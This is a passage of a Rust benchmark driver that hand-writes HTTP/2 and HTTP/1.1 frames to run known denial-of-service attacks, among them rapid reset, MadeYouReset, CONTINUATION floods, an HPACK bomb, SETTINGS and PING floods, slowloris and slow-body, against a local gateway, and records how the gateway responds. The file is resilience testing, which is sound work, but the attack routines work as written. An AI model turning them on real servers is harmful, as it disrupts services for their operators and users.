//! The attack driver of `scripts/bench-attacks.sh`: each known HTTP/2 and connection attack
//! against a gateway on 127.0.0.1, with frames written by hand over plain sockets
//! (prior-knowledge h2c), from one thread, paced so that the attacker itself stays light. The
//! benchmark runs one of these beside an ordinary client and measures what that client sees.
//!
//! One file, past 700 lines, because it is one small binary: each attack is a function over
//! the same frame writer and reader, and a reader follows an attack from its name in `main` to
//! its frames without leaving the file. Splitting it belongs with a shared frame module for the
//! tests (`tests/common/h2_frames.rs` holds a near twin).
//!
//! ```text
//! h2_attack ATTACK PORT SECONDS   runs ATTACK against 127.0.0.1:PORT for SECONDS at most
//!                                 (or until SIGTERM / SIGINT), then prints what the server did
//! h2_attack upstream PORT         a slow HTTP/1.1 upstream on 127.0.0.1:PORT: `/slow/MS...`
//!                                 is answered `200 ok` after MS ms (or when the client goes),
//!                                 anything else at once; `/__peak` answers "OPEN PEAK", the
//!                                 connections open now and the most open at once since the
//!                                 last `/__peak`
//! ```
//!
//! The attacks (each reconnects when the server closes a connection; a connection the server
//! refuses is retried after 100 ms):
//!
//! | ATTACK | connections at once | what each does |
//! |---|---|---|
//! | `batched-rapid-reset` | 1 | 1,000 HEADERS + RST_STREAM(CANCEL) pairs (`/slow/200`) per write, a write every 20 ms |
//! | `paced-rapid-reset` | 1 | one HEADERS + RST_STREAM(CANCEL) pair (`/slow/200`) every 1 ms |
//! | `made-you-reset` | 1 | 100 HEADERS (`/slow/200`) each with a WINDOW_UPDATE overflowing the stream's window, every 10 ms |
//! | `continuation` | 1 | a HEADERS without END_HEADERS, then 50 CONTINUATION frames of 200 bytes every 5 ms |
//! | `hpack-bomb` | 1 | a 14 KB header block that decodes to 40 MB (one 4,000-byte field indexed, then named 10,000 times), a new stream every 5 ms |
//! | `stream-cap` | 20 | 128 streams of `/slow/10000` each, topped up to 128 every second |
//! | `settings-flood` | 10 | SETTINGS frames, 1,000 per write, as fast as the socket takes them, never reading |
//! | `ping-flood` | 10 | PING frames, the same way |
//! | `zero-window` | 50 | SETTINGS_INITIAL_WINDOW_SIZE = 0, then 100 streams of `/` each, topped up every second |
//! | `cancelled-streams` | 200 | one request (`/slow/10000`), RST_STREAM(CANCEL) after 100 ms, then only PING and SETTINGS acknowledgements |
//! | `websocket` | 300 | an HTTP/1.1 WebSocket upgrade (`/ws/N`), then silence; the port is the HTTP/1.1 one |
//! | `upstream-multiplication` | 8 | 125 streams of `/slow/3000` each, topped up to 125 every second |
//! | `stalled-bodies` | 8 | 125 `POST /` streams each declaring a 1,000-byte body and sending none of it, topped up to 125 every second |
//! | `slowloris` | 300 | HTTP/1.1: a request head begun, then one more header line every second, never ended; the port is the HTTP/1.1 one |
//! | `slow-body` | 300 | HTTP/1.1: `POST /` declaring a 1,000-byte body, then one byte of it every second; the HTTP/1.1 port |
//! | `pipelining` | 75 | HTTP/1.1: `GET /slow/10000`, then 1 MiB of pipelined `GET /` behind it, as far as the server reads; the HTTP/1.1 port |
//!
//! Output, on stdout, when the attack ends: a line `summary KEY=VALUE ...` (connections,
//! refused, streams, bytes, the attacker's own CPU time `cpu_ticks` in clock ticks, and
//! `seconds`), then a line `outcome TEXT`: how the server ended the connections (GOAWAY and
//! its error code, closed without GOAWAY, still open), the streams it reset and the statuses
//! it answered.

use std::collections::BTreeMap;
use std::future::Future;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, BufReader};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpStream};

// Frame types (RFC 9113 section 6).
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;

// Flags.
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// RST_STREAM error code CANCEL.
const CANCEL: u32 = 0x8;
/// SETTINGS_HEADER_TABLE_SIZE.
const HEADER_TABLE_SIZE: u16 = 0x1;
/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 0x4;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Set by SIGTERM or SIGINT: every connection stops and the results are printed.
static STOP: AtomicBool = AtomicBool::new(false);

/// What the server did to the attack, over all its connections.
static TALLY: Mutex<Tally> = Mutex::new(Tally {
    connections: 0,
    refused: 0,
    connect_failed: 0,
    goaway: BTreeMap::new(),
    closed: Vec::new(),
    open: 0,
    resets: BTreeMap::new(),
    statuses: BTreeMap::new(),
    streams: 0,
    bytes: 0,
});

struct Tally {
    /// Connections that got as far as the server's SETTINGS (an HTTP/1.1 answer, for the
    /// WebSocket upgrades).
    connections: u64,
    /// Connections accepted and closed (or left unanswered for 3 s) before that.
    refused: u64,
    /// Connections that could not be made.
    connect_failed: u64,
    /// GOAWAY error code -> how long each connection that got it had lived.
    goaway: BTreeMap<u32, Vec<Duration>>,
    /// Connections closed without GOAWAY: how long each had lived.
    closed: Vec<Duration>,
    /// Connections still open when the attack stopped.
    open: u64,
    /// RST_STREAM frames of the server, by error code.
    resets: BTreeMap<u32, u64>,
    /// Response statuses.
    statuses: BTreeMap<u16, u64>,
    /// Streams (requests) opened.
    streams: u64,
    /// Bytes written.
    bytes: u64,
}

fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    m.lock().unwrap_or_else(PoisonError::into_inner)
}

fn tally() -> MutexGuard<'static, Tally> {
    lock(&TALLY)
}

fn stopping(deadline: Instant) -> bool {
    STOP.load(Ordering::Relaxed) || Instant::now() >= deadline
}

/// Sleeps for `d`, less when the attack stops meanwhile.
async fn pause(d: Duration, deadline: Instant) {
    let until = (Instant::now() + d).min(deadline);
    while !stopping(deadline) {
        let now = Instant::now();
        if now >= until {
            return;
        }
        tokio::time::sleep((until - now).min(Duration::from_millis(50))).await;
    }
}

/// The name of an HTTP/2 error code.
fn reason(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x3 => "FLOW_CONTROL_ERROR".into(),
        0x4 => "SETTINGS_TIMEOUT".into(),
        0x5 => "STREAM_CLOSED".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x7 => "REFUSED_STREAM".into(),
        0x8 => "CANCEL".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        0xd => "HTTP_1_1_REQUIRED".into(),
        other => format!("0x{other:x}"),
    }
}

// === Frames and HPACK, by hand ===

/// One frame: the 9-byte header (24-bit length, type, flags, 31-bit stream id), then
/// `payload`.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("a frame under 16 MiB");
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// Frames written many times with new stream ids: the bytes, and where each frame's stream
/// id is (byte offset, which stream of the batch).
struct Template {
    bytes: Vec<u8>,
    ids: Vec<(usize, u32)>,
}

impl Template {
    /// `count` streams, each given the frames `unit` makes for it (kind, flags, payload), all
    /// on the stream's id.
    fn new(count: u32, unit: &[(u8, u8, Vec<u8>)]) -> Template {
        let mut bytes = Vec::new();
        let mut ids = Vec::new();
        for n in 0..count {
            for (kind, flags, payload) in unit {
                ids.push((bytes.len() + 5, n));
                bytes.extend(frame(*kind, *flags, 0, payload));
            }
        }
        Template { bytes, ids }
    }

    /// The frames for the streams `first`, `first + 2`, ...
    fn with_ids(&mut self, first: u32) -> &[u8] {
        for &(at, n) in &self.ids {
            let id = (first + 2 * n) & 0x7fff_ffff;
            self.bytes[at..at + 4].copy_from_slice(&id.to_be_bytes());
        }
        &self.bytes
    }

    fn streams(&self, unit_len: usize) -> u32 {
        u32::try_from(self.ids.len() / unit_len).unwrap_or(u32::MAX)
    }
}

/// An integer with an N-bit prefix, the bits above the prefix in the first byte `flags`.
fn hpack_int(out: &mut Vec<u8>, flags: u8, prefix_bits: u32, value: usize) {
    let max = (1usize << prefix_bits) - 1;
    if value < max {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A string literal, not Huffman-coded.
fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0x00, 7, s.len());
    out.extend_from_slice(s);
}

/// The header block of `GET path` on `http://127.0.0.1`: `:method GET` and `:scheme http`
/// indexed (0x82, 0x86), `:authority` (static entry 1) and `:path` (entry 4) as literals
/// without indexing.
fn request_block(path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    hpack_int(&mut b, 0x00, 4, 1);
    hpack_str(&mut b, b"127.0.0.1");
    hpack_int(&mut b, 0x00, 4, 4);
    hpack_str(&mut b, path.as_bytes());
    b
}

/// The header block of `POST path` on `http://127.0.0.1` declaring a body of `length` bytes:
/// `:method POST` (static entry 3) indexed, `content-length` (static entry 28) as a literal.
fn post_block(path: &str, length: u64) -> Vec<u8> {
    let mut b = vec![0x83, 0x86];
    hpack_int(&mut b, 0x00, 4, 1);
    hpack_str(&mut b, b"127.0.0.1");
    hpack_int(&mut b, 0x00, 4, 4);
    hpack_str(&mut b, path.as_bytes());
    hpack_int(&mut b, 0x00, 4, 28);
    hpack_str(&mut b, length.to_string().as_bytes());
    b
}

/// A field literal without indexing, its name new.
fn literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_str(out, name);
    hpack_str(out, value);
}

/// The `:status` of a response's header block when it comes first: an indexed static entry
/// (8 to 14), or a literal on the name `:status` (static entry 8) whose value is plain or
/// Huffman-coded digits. Every connection sets SETTINGS_HEADER_TABLE_SIZE to 0, so the
/// server's encoder indexes nothing in its dynamic table; a block may start with the
/// dynamic table size update (to 0) that acknowledges it.
fn status_of(block: &[u8]) -> Option<u16> {
    const INDEXED: [u16; 7] = [200, 204, 206, 304, 400, 404, 500];
    let start = block.iter().take_while(|&&b| b == 0x20).count();
    let block = &block[start..];
    let first = *block.first()?;
    if (0x88..=0x8e).contains(&first) {
        return Some(INDEXED[usize::from(first - 0x88)]);
    }
    // With incremental indexing (0x48), without (0x08), never indexed (0x18).
    if !matches!(first, 0x48 | 0x08 | 0x18) {
        return None;
    }
    let len_byte = *block.get(1)?;
    let value = block.get(2..2 + usize::from(len_byte & 0x7f))?;
    let digits = if len_byte & 0x80 == 0 {
        String::from_utf8(value.to_vec()).ok()?
    } else {
        huffman_digits(value)?
    };
    digits.parse().ok()
}

/// Decodes Huffman-coded decimal digits: `0`-`2` are the 5-bit codes 00000-00010, `3`-`9`
/// the 6-bit codes 011001-011111, and the padding is ones.
fn huffman_digits(bytes: &[u8]) -> Option<String> {
    let bits: Vec<u8> = bytes
        .iter()
        .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1))
        .collect();
    let code = |at: usize, n: usize| -> Option<u8> {
        bits.get(at..at + n)
            .map(|s| s.iter().fold(0u8, |acc, &b| (acc << 1) | b))
    };
    let mut out = String::new();
    let mut at = 0;
    while at < bits.len() {
        if bits.len() - at < 8 && bits[at..].iter().all(|&b| b == 1) {
            break;
        }
        let five = code(at, 5)?;
        if five <= 0b00010 {
            out.push(char::from(b'0' + five));
            at += 5;
            continue;
        }
        let six = code(at, 6)?;
        if !(0b011001..=0b011111).contains(&six) {
            return None;
        }
        out.push(char::from(b'3' + (six - 0b011001)));
        at += 6;
    }
    Some(out)
}

// === One attacking connection ===

struct Frame {
    kind: u8,
    flags: u8,
    payload: Vec<u8>,
}

async fn read_frame<R: AsyncRead + Unpin>(read: &mut R) -> std::io::Result<Frame> {
    let mut head = [0u8; 9];
    read.read_exact(&mut head).await?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let mut payload = vec![0u8; len];
    read.read_exact(&mut payload).await?;
    Ok(Frame {
        kind: head[3],
        flags: head[4],
        payload,
    })
}

/// What the server sent on one connection.
#[derive(Default)]
struct Seen {
    goaway: Option<u32>,
    closed: bool,
    /// When the GOAWAY came, or the connection closed.
    ended_at: Option<Instant>,
    resets: BTreeMap<u32, u64>,
    statuses: BTreeMap<u16, u64>,
    /// Streams the server has ended: reset, or answered with END_STREAM.
    ended_streams: u64,
}

impl Seen {
    fn ended(&self) -> bool {
        self.closed || self.goaway.is_some()
    }

    fn end(&mut self) {
        self.ended_at.get_or_insert_with(Instant::now);
    }
}

enum Wrote {
    All,
    Failed,
    Stopped,
}

/// Writes `buf` whole, giving up when the attack stops; cancel-safe, so that a write stalled
/// by a server that no longer reads notices the stop.
async fn write_until<W: AsyncWrite + Unpin>(w: &mut W, buf: &[u8], deadline: Instant) -> Wrote {
    let mut at = 0;
    while at < buf.len() {
        if stopping(deadline) {
            return Wrote::Stopped;
        }
        match tokio::time::timeout(Duration::from_millis(100), w.write(&buf[at..])).await {
            Ok(Ok(0)) | Ok(Err(_)) => return Wrote::Failed,
            Ok(Ok(n)) => at += n,
            Err(_) => {}
        }
    }
    Wrote::All
}

/// A connection that has exchanged the preface and SETTINGS with the server.
struct Handshaken {
    read: BufReader<OwnedReadHalf>,
    write: OwnedWriteHalf,
    opened: Instant,
}

/// Connects, sends the preface, SETTINGS with HEADER_TABLE_SIZE 0 and `settings` and a
/// connection WINDOW_UPDATE of 16 MiB, waits up to 3 s for the server's SETTINGS and acknowledges them. A connection
/// refused (closed, or unanswered) is counted and retried after 100 ms by the caller's loop.
async fn connect(port: u16, settings: &[(u16, u32)], deadline: Instant) -> Option<Handshaken> {
    let tcp = match tokio::time::timeout(
        Duration::from_secs(3),
        TcpStream::connect(("127.0.0.1", port)),
    )
    .await
    {
        Ok(Ok(tcp)) => tcp,
        _ => {
            tally().connect_failed += 1;
            pause(Duration::from_millis(100), deadline).await;
            return None;
        }
    };
    let _ = tcp.set_nodelay(true);
    let opened = Instant::now();
    let (read, mut write) = tcp.into_split();
    let mut read = BufReader::new(read);
    let mut hello = PREFACE.to_vec();
    let payload: Vec<u8> = [(HEADER_TABLE_SIZE, 0)]
        .iter()
        .chain(settings)
        .flat_map(|(id, value)| id.to_be_bytes().into_iter().chain(value.to_be_bytes()))
        .collect();
    hello.extend(frame(SETTINGS, 0, 0, &payload));
    hello.extend(frame(WINDOW_UPDATE, 0, 0, &(16u32 << 20).to_be_bytes()));
    let answered = async {
        write.write_all(&hello).await.ok()?;
        let first = read_frame(&mut read).await.ok()?;
        if first.kind != SETTINGS || first.flags & ACK != 0 {
            return None;
        }
        write.write_all(&frame(SETTINGS, ACK, 0, &[])).await.ok()
    };
    match tokio::time::timeout(Duration::from_secs(3), answered).await {
        Ok(Some(())) => Some(Handshaken {
            read,
            write,
            opened,
        }),
        _ => {
            tally().refused += 1;
            pause(Duration::from_millis(100), deadline).await;
            None
        }
    }
}

/// A live attacking connection.
struct Conn {
    write: Arc<tokio::sync::Mutex<OwnedWriteHalf>>,
    seen: Arc<Mutex<Seen>>,
    opened: Instant,
    /// Kept unread by the floods: the server's frames pile up in the socket.
    _unread: Option<BufReader<OwnedReadHalf>>,
    next_id: u32,
    streams: u64,
    bytes: u64,
    deadline: Instant,
}

impl Handshaken {
    /// Reads what the server sends in a task of its own, acknowledging its PINGs and
    /// SETTINGS and returning the connection window its DATA takes.
    fn watch(self, deadline: Instant) -> Conn {
        let seen = Arc::new(Mutex::new(Seen::default()));
        let write = Arc::new(tokio::sync::Mutex::new(self.write));
        tokio::spawn(read_loop(self.read, Arc::clone(&seen), Arc::clone(&write)));
        Conn {
            write,
            seen,
            opened: self.opened,
            _unread: None,
            next_id: 1,
            streams: 0,
            bytes: 0,
            deadline,
        }
    }

    /// Never reads again.
    fn deaf(self, deadline: Instant) -> Conn {
        Conn {
            write: Arc::new(tokio::sync::Mutex::new(self.write)),
            seen: Arc::default(),
            opened: self.opened,
            _unread: Some(self.read),
            next_id: 1,
            streams: 0,
            bytes: 0,
            deadline,
        }
    }
}

async fn read_loop(
    mut read: BufReader<OwnedReadHalf>,
    seen: Arc<Mutex<Seen>>,
    write: Arc<tokio::sync::Mutex<OwnedWriteHalf>>,
) {
    loop {
        let Ok(f) = read_frame(&mut read).await else {
            let mut s = lock(&seen);
            s.closed = true;
            s.end();
            return;
        };
        let answer = match f.kind {
            PING if f.flags & ACK == 0 => Some(frame(PING, ACK, 0, &f.payload)),
            SETTINGS if f.flags & ACK == 0 => Some(frame(SETTINGS, ACK, 0, &[])),
            DATA if !f.payload.is_empty() => {
                let taken = u32::try_from(f.payload.len()).unwrap_or(0);
                Some(frame(WINDOW_UPDATE, 0, 0, &taken.to_be_bytes()))
            }
            _ => None,
        };
        if let Some(answer) = answer {
            // In a task of its own: the attack may hold the writer, blocked on a server
            // that waits for this reader.
            let write = Arc::clone(&write);
            tokio::spawn(async move {
                let _ = write.lock().await.write_all(&answer).await;
            });
        }
        let mut s = lock(&seen);
        match f.kind {
            RST_STREAM if f.payload.len() == 4 => {
                let code =
                    u32::from_be_bytes([f.payload[0], f.payload[1], f.payload[2], f.payload[3]]);
                *s.resets.entry(code).or_default() += 1;
                s.ended_streams += 1;
            }
            HEADERS => {
                if let Some(status) = status_of(&f.payload) {
                    *s.statuses.entry(status).or_default() += 1;
                }
                if f.flags & END_STREAM != 0 {
                    s.ended_streams += 1;
                }
            }
            DATA if f.flags & END_STREAM != 0 => s.ended_streams += 1,
            GOAWAY if f.payload.len() >= 8 && s.goaway.is_none() => {
                s.goaway = Some(u32::from_be_bytes([
                    f.payload[4],
                    f.payload[5],
                    f.payload[6],
                    f.payload[7],
                ]));
                s.end();
            }
            _ => {}
        }
    }
}

impl Conn {
    fn ended(&self) -> bool {
        lock(&self.seen).ended()
    }

    /// Whether the connection is still worth writing to.
    fn going(&self) -> bool {
        !self.ended() && !stopping(self.deadline)
    }

    /// Writes `bytes`; false once the connection or the attack is over.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        let wrote = {
            let mut w = self.write.lock().await;
            write_until(&mut *w, bytes, self.deadline).await
        };
        match wrote {
            Wrote::All => {
                self.bytes += bytes.len() as u64;
                true
            }
            Wrote::Failed => {
                let mut s = lock(&self.seen);
                s.closed = true;
                s.end();
                false
            }
            Wrote::Stopped => false,
        }
    }

    /// Waits up to `d`, less when the connection ends or the attack stops.
    async fn wait(&self, d: Duration) {
        let until = Instant::now() + d;
        while self.going() && Instant::now() < until {
            tokio::time::sleep(Duration::from_millis(5).min(until - Instant::now())).await;
        }
    }

    /// Opens `count` streams of `block` (a request without body) at once.
    async fn requests(&mut self, block: &[u8], count: u32) -> bool {
        self.requests_with(block, count, END_STREAM | END_HEADERS)
            .await
    }

    /// Opens `count` streams of `block` at once, their HEADERS with `flags` (without
    /// END_STREAM: each request's body is still to come).
    async fn requests_with(&mut self, block: &[u8], count: u32, flags: u8) -> bool {
        let mut batch = Vec::new();
        for n in 0..count {
            batch.extend(frame(HEADERS, flags, self.next_id + 2 * n, block));
        }
        let sent = self.send(&batch).await;
        if sent {
            self.next_id += 2 * count;
            self.streams += u64::from(count);
        }
        sent
    }

    /// Counts the connection in the tally, once it has ended (given 200 ms to show it) or
    /// the attack stopped.
    async fn finish(self) {
        if !stopping(self.deadline) {
            let until = Instant::now() + Duration::from_millis(200);
            while !self.ended() && Instant::now() < until {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
        let s = lock(&self.seen);
        let mut t = tally();
        t.connections += 1;
        t.streams += self.streams;
        t.bytes += self.bytes;
        let lived = s.ended_at.unwrap_or_else(Instant::now) - self.opened;
        match (s.goaway, s.closed) {
            (Some(code), _) => t.goaway.entry(code).or_default().push(lived),
            (None, true) => t.closed.push(lived),
            (None, false) => t.open += 1,
        }
        for (code, n) in &s.resets {
            *t.resets.entry(*code).or_default() += n;
        }
        for (status, n) in &s.statuses {
            *t.statuses.entry(*status).or_default() += n;
        }
    }
}

// === The attacks: each function is one connection's life ===

async fn batched_rapid_reset(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    let unit = [
        (
            HEADERS,
            END_STREAM | END_HEADERS,
            request_block("/slow/200"),
        ),
        (RST_STREAM, 0, CANCEL.to_be_bytes().to_vec()),
    ];
    let mut batch = Template::new(1000, &unit);
    let per = batch.streams(unit.len());
    while c.going() && c.next_id < 1 << 30 {
        let first = c.next_id;
        let bytes = batch.with_ids(first).to_vec();
        if !c.send(&bytes).await {
            break;
        }
        c.next_id += 2 * per;
        c.streams += u64::from(per);
        c.wait(Duration::from_millis(20)).await;
    }
    c.finish().await;
}

async fn paced_rapid_reset(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    let unit = [
        (
            HEADERS,
            END_STREAM | END_HEADERS,
            request_block("/slow/200"),
        ),
        (RST_STREAM, 0, CANCEL.to_be_bytes().to_vec()),
    ];
    let mut pair = Template::new(1, &unit);
    let mut tick = tokio::time::interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    while c.going() && c.next_id < 1 << 30 {
        tick.tick().await;
        let bytes = pair.with_ids(c.next_id).to_vec();
        if !c.send(&bytes).await {
            break;
        }
        c.next_id += 2;
        c.streams += 1;
    }
    c.finish().await;
}

async fn made_you_reset(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    // The stream's send window starts at 65,535: 2^31 - 1 more overflows it.
    let unit = [
        (
            HEADERS,
            END_STREAM | END_HEADERS,
            request_block("/slow/200"),
        ),
        (WINDOW_UPDATE, 0, 0x7fff_ffffu32.to_be_bytes().to_vec()),
    ];
    let mut batch = Template::new(100, &unit);
    let per = batch.streams(unit.len());
    while c.going() && c.next_id < 1 << 30 {
        let bytes = batch.with_ids(c.next_id).to_vec();
        if !c.send(&bytes).await {
            break;
        }
        c.next_id += 2 * per;
        c.streams += u64::from(per);
        c.wait(Duration::from_millis(10)).await;
    }
    c.finish().await;
}

async fn continuation(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    let first = frame(HEADERS, END_STREAM, 1, &request_block("/continued"));
    let mut fields = Vec::new();
    literal(&mut fields, b"x-flood", &[b'a'; 190]);
    let batch = frame(CONTINUATION, 0, 1, &fields).repeat(50);
    if c.send(&first).await {
        c.streams += 1;
        while c.going() && c.send(&batch).await {
            c.wait(Duration::from_millis(5)).await;
        }
    }
    c.finish().await;
}

async fn hpack_bomb(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    let mut block = request_block("/bomb");
    // A literal with incremental indexing and a new name: the newest entry of the dynamic
    // table, index 62; then 10,000 one-byte references to it.
    block.push(0x40);
    hpack_str(&mut block, b"x-bomb");
    hpack_str(&mut block, &[b'b'; 4000]);
    block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
    let mut bomb = Template::new(1, &[(HEADERS, END_STREAM | END_HEADERS, block)]);
    while c.going() && c.next_id < 1 << 30 {
        let bytes = bomb.with_ids(c.next_id).to_vec();
        if !c.send(&bytes).await {
            break;
        }
        c.next_id += 2;
        c.streams += 1;
        c.wait(Duration::from_millis(5)).await;
    }
    c.finish().await;
}

/// Holds `per` streams of `path` open on one connection, opening new ones every second in
/// place of those the server has ended.
async fn hold_streams(port: u16, deadline: Instant, settings: &[(u16, u32)], per: u64, path: &str) {
    let block = request_block(path);
    hold_blocks(
        port,
        deadline,
        settings,
        per,
        &block,
        END_STREAM | END_HEADERS,
    )
    .await;
}

/// Holds `per` streams of `block` (HEADERS with `flags`) open on one connection, opening new
/// ones every second in place of those the server has ended.
async fn hold_blocks(
    port: u16,
    deadline: Instant,
    settings: &[(u16, u32)],
    per: u64,
    block: &[u8],
    flags: u8,
) {
    let Some(h) = connect(port, settings, deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    while c.going() {
        let ended = lock(&c.seen).ended_streams;
        let open = c.streams.saturating_sub(ended);
        let missing = u32::try_from(per.saturating_sub(open)).unwrap_or(0);
        if missing > 0 && !c.requests_with(block, missing, flags).await {
            break;
        }
        c.wait(Duration::from_secs(1)).await;
    }
    c.finish().await;
}

/// Writes `unit` 1,000 times a write, as fast as the socket takes it, never reading.
async fn flood(port: u16, deadline: Instant, unit: Vec<u8>) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.deaf(deadline);
    let batch = unit.repeat(1000);
    while c.going() && c.send(&batch).await {}
    c.finish().await;
}

async fn cancelled_stream(port: u16, deadline: Instant) {
    let Some(h) = connect(port, &[], deadline).await else {
        return;
    };
    let mut c = h.watch(deadline);
    if c.requests(&request_block("/slow/10000"), 1).await {
        c.wait(Duration::from_millis(100)).await;
        if c.going()
            && c.send(&frame(RST_STREAM, 0, 1, &CANCEL.to_be_bytes()))
                .await
        {
            while c.going() {
                c.wait(Duration::from_secs(1)).await;
            }
        }
    }
    c.finish().await;
}

/// An HTTP/1.1 WebSocket upgrade, then silence until the server closes the socket.
async fn websocket(port: u16, deadline: Instant, n: usize) {
    let Ok(Ok(mut tcp)) = tokio::time::timeout(
        Duration::from_secs(3),
        TcpStream::connect(("127.0.0.1", port)),
    )
    .await
    else {
        tally().connect_failed += 1;
        pause(Duration::from_millis(100), deadline).await;
        return;
    };
    let opened = Instant::now();
    let upgrade = format!(
        "GET /ws/{n} HTTP/1.1\r\nhost: 127.0.0.1\r\nupgrade: websocket\r\nconnection: Upgrade\r\n\
         sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n\r\n"
    );
    let head = async {
        tcp.write_all(upgrade.as_bytes()).await.ok()?;
        let mut head = Vec::new();
        let mut byte = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") && head.len() < 16 * 1024 {
            if tcp.read(&mut byte).await.ok()? == 0 {
                return None;
            }
            head.push(byte[0]);
        }
        Some(head)
    };
    let head = tokio::time::timeout(Duration::from_secs(3), head)
        .await
        .ok()
        .flatten();
    let Some(head) = head else {
        tally().refused += 1;
        pause(Duration::from_millis(100), deadline).await;
        return;
    };
    let status: u16 = String::from_utf8_lossy(&head)
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let mut closed = false;
    if status == 101 {
        let mut buf = [0u8; 4096];
        while !stopping(deadline) {
            match tokio::time::timeout(Duration::from_millis(100), tcp.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => {
                    closed = true;
                    break;
                }
                _ => {}
            }
        }
    }
    {
        let mut t = tally();
        t.connections += 1;
        t.streams += 1;
        t.bytes += upgrade.len() as u64;
        *t.statuses.entry(status).or_default() += 1;
        // An upgrade refused with a status is counted by its status alone.
        if status == 101 && closed {
            t.closed.push(opened.elapsed());
        } else if status == 101 {
            t.open += 1;
        }
    }
    if status != 101 {
        pause(Duration::from_millis(100), deadline).await;
    }
}

/// An HTTP/1.1 connection that writes `first` (as far as the server reads it), then `then`
/// every `every` while `then` is not empty, reading what the server answers, until the server
/// closes it or the attack stops; counted by the status of its first answer (`0`: none).
async fn h1_trickle(
    port: u16,
    deadline: Instant,
    first: Arc<Vec<u8>>,
    then: &'static [u8],
    every: Duration,
) {
    let Ok(Ok(mut tcp)) = tokio::time::timeout(
        Duration::from_secs(3),
        TcpStream::connect(("127.0.0.1", port)),
    )
    .await
    else {
        tally().connect_failed += 1;
        pause(Duration::from_millis(100), deadline).await;
        return;
    };
    let opened = Instant::now();
    let mut written = 0u64;
    let mut closed = match write_until(&mut tcp, &first, deadline).await {
        Wrote::All => {
            written += first.len() as u64;
            false
        }
        Wrote::Failed => true,
        Wrote::Stopped => false,
    };
    let mut status = 0u16;
    let mut buf = [0u8; 4096];
    let mut next = Instant::now() + every;
    while !closed && !stopping(deadline) {
        match tokio::time::timeout(Duration::from_millis(50), tcp.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => closed = true,
            Ok(Ok(n)) => {
                if status == 0 {
                    status = String::from_utf8_lossy(&buf[..n])
                        .split_whitespace()
                        .nth(1)
                        .and_then(|s| s.parse().ok())
                        .unwrap_or(0);
                }
            }
            Err(_) => {}
        }
        if !closed && !then.is_empty() && Instant::now() >= next {
            match write_until(&mut tcp, then, deadline).await {
                Wrote::All => written += then.len() as u64,
                Wrote::Failed => closed = true,
                Wrote::Stopped => {}
            }
            next += every;
        }
    }
    {
        let mut t = tally();
        t.connections += 1;
        t.streams += 1;
        t.bytes += written;
        *t.statuses.entry(status).or_default() += 1;
        if closed {
            t.closed.push(opened.elapsed());
        } else {
            t.open += 1;
        }
    }
    if closed {
        pause(Duration::from_millis(100), deadline).await;
    }
}

/// Runs `one` on `n` connections at once, started `stagger` apart, each begun again when it
/// ends, until the attack stops.
async fn slots<F, Fut>(n: usize, stagger: Duration, deadline: Instant, one: F)
where
    F: Fn(usize) -> Fut + Clone + Send + 'static,
    Fut: Future<Output = ()> + Send + 'static,
{
    let mut tasks = Vec::new();
    for i in 0..n {
